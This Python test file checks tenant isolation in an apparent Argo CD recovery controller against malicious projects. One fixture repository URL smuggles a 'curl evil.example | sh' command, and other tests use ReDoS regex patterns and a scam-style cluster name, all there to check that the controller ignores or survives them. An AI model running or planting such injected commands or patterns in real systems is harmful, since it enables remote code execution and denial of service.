"""Projects are walls: what one tenant's applications say or suffer holds nobody else's recovery."""

from __future__ import annotations

import asyncio
import random
from pathlib import Path
from typing import Any

import msgspec
import pytest
from msgspec import structs

from recovery.decide.budgets import in_flight_limit
from recovery.decide.guard_request import GuardRequest
from recovery.decide.reconciled import _matches, foreign
from recovery.decide.storms import explained, many, over, part_stands
from recovery.decide.unreconciled import stands_still
from recovery.kube.client import APPLICATIONS
from recovery.model.application import Destination, Permitted, Project
from recovery.model.connection import Verdict
from recovery.model.names import STRANGERS
from recovery.model.situation import Fleet
from recovery.model.storm import GroupCount, StormLimits, Wall
from recovery.observe import wire
from recovery.observe.connections import Connections
from recovery.observe.store import Store
from recovery.record.codec import stamp
from recovery.simulate import virtual
from recovery.simulate.environment import ARGOCD
from recovery.simulate.manifests import deployment
from recovery.simulate.virtual import VirtualClock
from tests.builders import NOW, a_cluster, a_situation, an_application, degraded
from tests.play import Play, play

SHIPPED = Path("config/policies.yaml").read_text()
FOR_HOURS = 3


def crowd(
    group: str, parts: dict[str, tuple[int, int]], shared_by: int, storms: tuple[str, ...] = ()
) -> GroupCount:
    fallen, of = (sum(part[i] for part in parts.values()) for i in (0, 1))
    return GroupCount(
        group,
        "" if group == "fleet" else "x",
        fallen,
        max(of, fallen),
        max(of, fallen),
        NOW,
        Wall(parts, shared_by, frozenset(storms)),
    )


@pytest.mark.parametrize(
    ("found", "stands"),
    [
        pytest.param(
            crowd("fleet", {"evil": (25, 25), "good": (1, 150)}, 2, ("evil",)),
            False,
            id="25 of one project and a victim",
        ),
        pytest.param(
            crowd("fleet", {"evil": (24, 100), "good": (1, 150)}, 2),
            False,
            id="just below its own storm, and a victim",
        ),
        pytest.param(
            crowd("fleet", {"e1": (13, 13), "e2": (13, 13), "good": (1, 150)}, 12, ("e1", "e2")),
            False,
            id="two projects of one owner",
        ),
        pytest.param(
            crowd("cluster", {"evil": (9, 9), "good": (1, 20)}, 2, ("evil",)),
            False,
            id="most of a shared cluster",
        ),
        pytest.param(
            crowd("repository", {"evil": (6, 6)}, 3, ("evil",)),
            False,
            id="one project of a shared repository",
        ),
        pytest.param(
            crowd("cluster", {"a": (90, 90), "b": (10, 10)}, 2, ("a", "b")),
            True,
            id="a cluster with two projects is gone",
        ),
        pytest.param(
            crowd(
                "cluster",
                {f"p{n}": (6, 6) for n in range(30)},
                30,
                tuple(f"p{n}" for n in range(30)),
            ),
            True,
            id="a cluster with thirty",
        ),
        pytest.param(
            crowd("fleet", {f"p{n}": (2, 4) for n in range(20)}, 20),
            True,
            id="a little of everybody",
        ),
        pytest.param(
            crowd("fleet", {"evil": (25, 25), **{f"p{n}": (4, 8) for n in range(5)}}, 6, ("evil",)),
            True,
            id="others, too",
        ),
        pytest.param(crowd("repository", {}, 1), False, id="too few"),
        pytest.param(
            GroupCount("repository", "x", 9, 9, 9, NOW), True, id="all of one project's repository"
        ),
    ],
)
def test_what_a_narrower_group_explains_is_no_storm_of_the_wider_one(
    found: GroupCount, stands: bool
) -> None:
    assert over(found, StormLimits()) is stands
    assert stands or explained(found, StormLimits()) or found.fallen < StormLimits().minimum


@pytest.mark.parametrize("many", [5, 25])
@pytest.mark.parametrize(
    "skip", [True, False], ids=["skipped by Argo CD", "between two comparisons"]
)
def test_forged_ill_health_of_one_project_holds_no_other(many: int, skip: bool) -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(60):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        for i in range(many):
            await p.world.application(f"evil-{i}", (deployment(f"evil-{i}"),), project="evilteam")

        async def forge() -> None:
            minute = 0
            while True:
                minute += 1
                ill = minute % 10 != 0
                for i in range(many if minute % 10 in (0, 1) else 0):
                    now = stamp(p.clock.now())
                    notes = {"argocd.argoproj.io/skip-reconcile": "true"} if skip else {}
                    status = {
                        "health": {
                            "status": "Degraded" if ill else "Healthy",
                            "lastTransitionTime": now,
                        },
                        "reconciledAt": now,
                    }
                    await p.world.cluster.patch(
                        APPLICATIONS,
                        ARGOCD,
                        f"evil-{i}",
                        {"metadata": {"annotations": notes}, "status": status},
                    )
                await p.clock.sleep(60)

        async with p.controller():
            await p.clock.sleep(300)
            task = asyncio.create_task(forge())
            await p.clock.sleep(120)
            await p.world.commit("calm-3", (deployment("calm-3", "crash-until-restart", 30),))
            await p.clock.sleep(1800)
            assert p.world.seen("calm-3").health.value == "Healthy", (
                "its recovery waited for another project"
            )
            task.cancel()
        for recovery in p.world.recoveries():
            own = recovery.subject.project
            assert own != "good" or "evil" not in str(recovery), (
                "a record of one project names a subject of another"
            )
            if recovery.subject.kind == "Storm":
                assert recovery.subject.name == "project/evilteam"

    play(script)


def test_what_a_tenant_takes_back_switches_no_policy_off_for_others() -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(12):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        evil = ("evil-secret-x", "evil-b")
        for name in evil:
            await p.world.application(name, (deployment(name),), project="evilteam")
        loop, tasks = asyncio.get_running_loop(), []

        def heard(what: Any, kind: str, item: dict[str, Any]) -> None:
            held = "recovery.gitops.dev/hold" in (item["metadata"].get("annotations") or {})
            if what == APPLICATIONS and item["metadata"]["name"] in evil and held:
                automated = (item["spec"].get("syncPolicy") or {}).get("automated") or {}
                if automated.get("enabled") is False:
                    body = {"spec": {"syncPolicy": {"automated": {"enabled": True}}}}
                    tasks.append(
                        loop.create_task(
                            p.world.cluster.patch(
                                APPLICATIONS, ARGOCD, item["metadata"]["name"], body
                            )
                        )
                    )

        p.world.cluster.listen(heard)
        async with p.controller() as app:
            await p.clock.sleep(300)
            for name in evil:
                await p.world.commit(name, (deployment(name, "crash", 30),))
            await p.clock.sleep(2400)
            trust = app.recoveries.distrusted()
            assert trust, "two rollbacks were taken back"
            assert all(key.endswith("/evilteam") for key in trust)
            await p.world.commit("calm-3", (deployment("calm-3", "crash-until-restart", 30),))
            await p.clock.sleep(3600)
            assert p.world.seen("calm-3").health.value == "Healthy"
            assert "evil" not in str(
                [r for r in p.world.recoveries() if r.subject.project == "good"]
            )

    play(script)


def test_an_application_in_a_namespace_that_its_project_does_not_take_belongs_to_it_in_name_only() -> (
    None
):
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(6):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        spec = {
            "project": "good",
            "destination": {"server": "https://kubernetes.default.svc", "namespace": "evil-ns"},
        }
        now = stamp(p.clock.now())
        status = {
            "sync": {"status": "OutOfSync"},
            "health": {"status": "Degraded", "lastTransitionTime": now},
            "reconciledAt": now,
        }
        await p.world.cluster.create(
            APPLICATIONS,
            "evil-ns",
            {"metadata": {"name": "evil"}, "spec": spec, "status": {**status, "frozen": True}},
        )
        async with p.controller(application_namespaces=("evil-ns",)) as app:
            await p.clock.sleep(3600)
            (pending,) = app.journal.latest[next(k for k in app.journal.latest if k.name == "evil")]
        assert pending.by == "ReconcileSkipped"
        assert "spec.sourceNamespaces" in pending.message
        assert p.world.recoveries() == []

    play(script)


async def connections(projects: tuple[str, ...], saying: tuple[str, ...]) -> Connections:
    """One cluster, an application of each project on it, and those that say it is unreachable."""
    clock = VirtualClock()
    store = Store(clock, lambda _: None, lambda _: False)
    held = Connections(clock, store, lambda _: None, lambda _: False)
    words = "Failed to load live state: failed to get cluster info for x: error synchronizing cache state : dial tcp 1.2.3.4:6443: i/o timeout"
    for project in projects:
        says = (
            {"conditions": [{"type": "ComparisonError", "message": words}]}
            if project in saying
            else {}
        )
        body = {
            "metadata": {"name": f"app-{project}", "namespace": ARGOCD, "uid": project},
            "spec": {
                "project": project,
                "destination": {"name": "primary"},
                "source": {"repoURL": f"https://git.example/{project}.git"},
            },
            "status": {"sync": {"status": "Unknown"}, "reconciledAt": stamp(clock.now()), **says},
        }
        store.put(wire.application(msgspec.json.encode(body)))
    held.know_clusters([a_cluster("primary")], whole=True)
    held.know_repositories([], whole=False)
    held.listen_to_applications()
    return held


@pytest.mark.parametrize(
    ("projects", "saying", "believed"),
    [
        (("evil", "good"), ("evil",), False),
        (("evil", "good", "other"), ("evil", "other"), True),
        (("evil",), ("evil",), True),
        (("evil", "other", *(f"p{n}" for n in range(6))), ("evil", "other"), False),
        (("evil", "default", "a", "b"), ("evil", "default"), True),
    ],
    ids=["one of two", "two of three", "all are of one", "two of eight", "half of four"],
)
def test_what_several_projects_share_is_not_ill_on_the_word_of_one(
    projects: tuple[str, ...], saying: tuple[str, ...], believed: bool
) -> None:
    held = virtual.run(connections(projects, saying))

    assert bool(held.clusters["https://primary.example:6443"].evidence) is believed


def test_no_repository_and_no_cluster_exists_because_an_application_names_it() -> None:
    async def inside() -> Connections:
        clock = VirtualClock()
        store = Store(clock, lambda _: None, lambda _: False)
        held = Connections(clock, store, lambda _: None, lambda _: False)
        store.put(
            an_application(
                name="evil", repositories=("https://git.example/x;curl${IFS}evil.example|sh;.git",)
            )
        )
        held.know_clusters([], whole=False)
        held.know_repositories([], whole=False)
        return held

    held = virtual.run(inside())
    assert set(held.clusters) == {"https://kubernetes.default.svc"}
    assert held.repositories == {}


def test_one_application_that_says_it_was_long_not_compared_is_no_standstill_of_argo_cd() -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(6):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        await p.world.application("evil", (deployment("evil"),), project="evilteam")
        async with p.controller():
            await p.clock.sleep(120)
            for _ in range(40):
                await p.world.cluster.patch(
                    APPLICATIONS,
                    ARGOCD,
                    "evil",
                    {"status": {"reconciledAt": "2020-01-01T00:00:00Z", "frozen": True}},
                )
                await p.clock.sleep(30)
        assert p.world.recoveries() == []

    play(script)


@pytest.mark.parametrize("names", [1, 25], ids=["one made-up project", "one each"])
def test_a_project_that_does_not_exist_is_nobodys_wall(names: int) -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(60):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        async with p.controller() as app:
            await p.clock.sleep(120)
            now = stamp(p.clock.now())
            status = {
                "health": {"status": "Degraded", "lastTransitionTime": now},
                "sync": {"status": "Synced"},
                "frozen": True,
            }
            for i in range(25):
                spec = {
                    "project": f"made-up-{i % names}",
                    "source": {"repoURL": "https://git.example/good.git"},
                }
                spec["destination"] = {"server": "https://kubernetes.default.svc", "namespace": "x"}
                await p.world.cluster.create(
                    APPLICATIONS,
                    ARGOCD,
                    {
                        "metadata": {"name": f"evil-{i}"},
                        "spec": spec,
                        "status": {**status, "reconciledAt": now},
                    },
                )
            await p.world.commit("calm-3", (deployment("calm-3", "crash-until-restart", 30),))
            await p.clock.sleep(900)
            assert p.world.seen("calm-3").health.value == "Healthy", (
                "its recovery waited for people without a project"
            )
            assert {
                app.store.counted(a).project
                for a in app.store.applications.values()
                if a.name.startswith("evil")
            } == {STRANGERS}
        assert not any(
            s.sent and s.action in ("restart", "rollback", "sync")
            for r in p.world.recoveries()
            for s in r.steps
            if "evil" in r.name
        )

    play(script)


@pytest.mark.parametrize(
    "beside", [False, True], ids=["alone", "with another project's beside them"]
)
def test_what_is_a_storm_holds_those_who_make_it_whoever_is_beside_them(beside: bool) -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        await p.world.further_cluster("prod")
        for i in range(60):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="default")
        for i in range(10):
            await p.world.application(
                f"web-{i}",
                (deployment(f"web-{i}", "ready", 30),),
                project="default",
                cluster="prod",
            )
        if beside:
            await p.world.application(
                "monitoring", (deployment("monitoring"),), project="platform", cluster="prod"
            )
        async with p.controller(token=True):
            await p.clock.sleep(400)
            for i in range(10):
                await p.world.commit(f"web-{i}", (deployment(f"web-{i}", "crash", 30),))
            await p.clock.sleep(2400)
        storms = [r for r in p.world.recoveries() if r.subject.kind == "Storm"]
        assert [s.subject.name for s in storms] == (
            ["cluster@default/prod"] if beside else ["cluster/prod"]
        )
        assert not any(
            s.sent and s.action in ("restart", "rollback", "sync")
            for r in p.world.recoveries()
            for s in r.steps
        )
        assert storms[0].subject.project == ("default" if beside else "")

    play(script)


def test_a_crowd_that_is_a_storm_always_holds_those_of_its_largest_project() -> None:
    limits = StormLimits()
    for seed in range(3_000):
        r = random.Random(seed)  # noqa: S311 (the same crowds each time)
        projects = [f"p{n}" for n in range(r.randint(2, 6))]
        of = {p: r.randint(1, 60) for p in projects}
        parts = {p: (n, of[p]) for p in projects if (n := r.randint(0, of[p]))}
        if not parts:
            continue
        storms = frozenset(p for p in parts if r.random() < 0.4)
        group, fallen, total = (
            r.choice(["fleet", "cluster", "repository"]),
            sum(n for n, _ in parts.values()),
            sum(of.values()),
        )
        whole = GroupCount(
            group, "x", fallen, total, total, NOW, Wall(parts, len(projects), storms)
        )
        largest = max(parts, key=lambda p: (parts[p][0], p))
        part = GroupCount(
            f"{group}@{largest}", "x", parts[largest][0], of[largest], of[largest], NOW
        )
        if many(whole, limits):
            assert (
                over(whole, limits)
                or largest in storms
                or part_stands(part, largest, whole, limits)
            ), (seed, whole)


def test_of_two_projects_that_give_as_much_the_same_one_is_held_in_any_order() -> None:
    """Their applications are seen in another order by each replica, and after each restart."""
    limits, stands = StormLimits(), []
    for projects in (("a", "b"), ("b", "a")):
        parts = dict.fromkeys(projects, (3, 5))
        whole = GroupCount("cluster", "x", 6, 10, 10, NOW, Wall(parts, 2, frozenset()))
        part = GroupCount("cluster@b", "x", 3, 5, 5, NOW)
        assert many(whole, limits)
        assert explained(whole, limits)
        stands.append(part_stands(part, "b", whole, limits))
    assert stands == [True, True]


@pytest.mark.parametrize(
    ("ill", "well", "stands"),
    [
        pytest.param({"good": 20}, {}, True, id="all that there are"),
        pytest.param({"good": 20}, {"evil": 1}, True, id="one that says it is looked at"),
        pytest.param({"evil": 1}, {"good": 20}, False, id="one that says it is not"),
        pytest.param({"a": 5, "b": 5}, {"evil": 30}, True, id="two projects against one"),
        pytest.param({"evil": 30}, {"a": 5, "b": 5}, False, id="one project against two"),
        pytest.param(
            {"a": 5}, {"a": 50, "b": 5}, False, id="one against one, and most are looked at"
        ),
    ],
)
def test_most_projects_say_whether_a_shard_stands_still(
    ill: dict[str, int], well: dict[str, int], stands: bool
) -> None:
    assert stands_still(ill, well) is stands


def test_a_cluster_that_argo_cd_does_not_know_has_no_shard() -> None:
    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        for i in range(6):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        words = "ALL CLUSTERS LOST, call +1-900"
        spec = {
            "project": "evilteam",
            "destination": {"name": words, "namespace": "x"},
            "source": {"repoURL": "https://git.example/x.git"},
        }
        body = {
            "metadata": {"name": "evil"},
            "spec": spec,
            "status": {"frozen": True, "reconciledAt": "2020-01-01T00:00:00Z"},
        }
        await p.world.cluster.create(APPLICATIONS, ARGOCD, body)
        async with p.controller():
            await p.clock.sleep(1800)
        assert p.world.recoveries() == []
        assert not any("LOST" in note.title for note in p.told)

    play(script)


def test_a_project_leaves_one_place_of_a_shared_cluster_to_others() -> None:
    busy = Fleet(in_flight=2, in_flight_cluster=2, in_flight_project=2, in_flight_theirs=2)
    assert in_flight_limit(asked(busy)) == ""
    assert "of project" in in_flight_limit(asked(structs.replace(busy, cluster_shared=True)))
    assert (
        in_flight_limit(asked(structs.replace(busy, cluster_shared=True, in_flight_theirs=1))) == ""
    )


def asked(fleet: Fleet) -> GuardRequest:
    situation = structs.replace(a_situation(degraded()), fleet=fleet)
    policy = situation.policies.policies[0]
    return GuardRequest(situation, policy, policy.actions[0], None)


def test_one_that_says_it_was_compared_takes_nothing_back_for_others() -> None:
    async def inside() -> Connections:
        held = await connections(("a", "b", "c", "evil"), ("a", "b", "c"))
        store = held._store
        store.put(
            structs.replace(store.applications[ARGOCD, "app-evil"], reconciled_at=held._clock.now())
        )
        held.listen_to_applications()
        return held

    (found,) = virtual.run(inside()).clusters["https://primary.example:6443"].evidence
    assert found.verdict is Verdict.unreachable


def test_what_argo_cd_does_not_reconcile_has_no_voice_and_no_veto() -> None:
    async def inside() -> Connections:
        held = await connections(("a", "ops"), ("a",))
        held._store.unreconciled = lambda app: "skipped" if app.project == "ops" else ""
        held.listen_to_applications()
        return held

    assert virtual.run(inside()).clusters["https://primary.example:6443"].evidence


@pytest.mark.parametrize(
    ("pattern", "namespace", "matches"),
    [
        ("team-*", "team-a", True),
        ("/^team-.*$/", "team-a", True),
        ("/^team-.*$/", "my-team-a", False),
        ("/^(shop|cart)-[a-z]+$/", "cart-eu", True),
        ("/.*-(dev|prod)$/", "cart-prod", True),
        ("/.*-(dev|prod)$/", "cart-test", False),
        (r"/^team\.a\d$/", "team.a1", True),
        ("/(.+)+!/", "a" * 63, False),
        ("/" + "(a|a)" * 40 + "b/", "a" * 63, False),
        ("/" + ".*" * 40 + "b/", "a" * 63, False),
        ("/" + "a?" * 60 + "b/", "a" * 63, False),
        ("/^(?!kube).*$/", "team-a", False),
        ("/[/", "a", False),
        ("/[z-a]/", "a", False),
        ("/" + "a" * 300 + "/", "a", False),
    ],
)
def test_namespaces_of_a_project_cost_nothing_that_matters(
    pattern: str, namespace: str, matches: bool
) -> None:
    assert (
        _matches(pattern, namespace) is matches
    )  # one that is tried without end would never come to this


def test_a_project_named_for_a_moment_is_not_the_one_of_the_record() -> None:
    """Around the moment in which the policy is due, five of one project name others, which do not
    take them: what is done to them without use switches the policy off for nobody else."""

    async def script(p: Play) -> None:
        await p.world.policies(SHIPPED)
        await p.world.application("bank", (deployment("bank"),), project="bank")
        async with p.controller() as app:
            for i in range(5):
                await p.world.application(
                    f"evil-{i}", (deployment(f"evil-{i}", "crash", 30),), project="evil"
                )
            await p.clock.sleep(5 * 60 + 25)
            for i in range(5):
                await p.world.cluster.patch(
                    APPLICATIONS, ARGOCD, f"evil-{i}", {"spec": {"project": f"ghost-{i}"}}
                )
            await p.clock.sleep(30)
            for i in range(5):
                await p.world.cluster.patch(
                    APPLICATIONS, ARGOCD, f"evil-{i}", {"spec": {"project": "evil"}}
                )
            await p.clock.sleep(3600)

            told = {
                r.subject.project for r in p.world.recoveries() if r.subject.name.startswith("evil")
            }
            assert told, "they have fallen ill"
            assert not any(name.startswith("ghost") for name in told)
            assert {key.rpartition("/")[2] for key in app.recoveries.circuits()} <= {
                "evil",
                STRANGERS,
            }

    play(script)


def test_a_cluster_that_argo_cd_does_not_know_makes_nobody_a_member() -> None:
    app = an_application(
        destination=Destination(server="https://nowhere.example", namespace="shop")
    )
    takes_all = Project("shop", destinations=(Permitted(server="*", namespace="*"),))

    assert foreign(app, takes_all, None) == "", "without a list of clusters nobody can tell"
    assert "knows no cluster https://nowhere.example" in foreign(app, takes_all, None, listed=True)
